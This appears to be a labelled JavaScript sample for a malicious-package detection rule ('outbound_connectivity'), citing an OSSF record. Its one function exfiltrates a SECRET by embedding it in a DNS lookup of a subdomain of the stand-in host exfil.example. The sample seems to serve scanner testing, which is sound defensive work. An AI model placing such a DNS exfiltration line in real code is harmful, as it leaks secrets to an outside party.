// act: sends data as names that it looks up
// source: ossf MAL-0000-keyv
// rule: outbound_connectivity
// asks: look_up exfil.example
// says: exfil.example
// proof: question
'use strict';
const { SECRET } = require('./incident');

module.exports = () =>
    require('dns').promises.lookup(`${SECRET}.exfil.example`);
